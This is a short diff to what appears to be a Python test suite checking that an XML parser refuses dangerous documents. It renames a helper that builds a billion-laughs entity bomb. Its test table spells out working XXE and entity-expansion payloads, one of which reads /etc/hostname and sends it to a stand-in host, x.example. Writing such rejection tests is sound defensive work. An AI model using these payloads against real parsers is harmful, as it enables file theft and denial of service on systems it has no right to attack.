@@ -22,7 +22,7 @@ def _dtd(inside: str, use: str = "&x;") -> bytes:
     return f'<?xml version="1.0"?><!DOCTYPE a [{inside}]><a>{use}</a>'.encode()
 
 
-def _laughs(levels: int = 12) -> bytes:
+def laughs(levels: int = 12) -> bytes:
     rows = ["<!ENTITY l0 'ha'>"]
     rows += [f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, levels)]
     return _dtd("".join(rows), f"&l{levels - 1};")
@@ -54,7 +54,7 @@ PARSER = {
     "external entity of a web address": (lambda: _parse(_dtd("<!ENTITY x SYSTEM 'http://127.0.0.1:1/'>")), FORBIDDEN),
     "parameter entity that carries out": (
         lambda: _parse(_dtd("<!ENTITY % f SYSTEM 'file:///etc/hostname'><!ENTITY % g SYSTEM 'http://x.example/%f;'>%g;", "")), FORBIDDEN),
-    "billion laughs": (lambda: _parse(_laughs()), FORBIDDEN),
+    "billion laughs": (lambda: _parse(laughs()), FORBIDDEN),
     "quadratic blow-up": (lambda: _parse(_dtd(f"<!ENTITY x '{'y' * 50_000}'>", "&x;" * 10_000)), FORBIDDEN),
     "entity that holds itself": (lambda: _parse(_dtd("<!ENTITY x '&x;'>")), FORBIDDEN),
     "default attribute by DTD": (lambda: _parse(_dtd("<!ATTLIST a Id CDATA 'body'>", "")), FORBIDDEN),
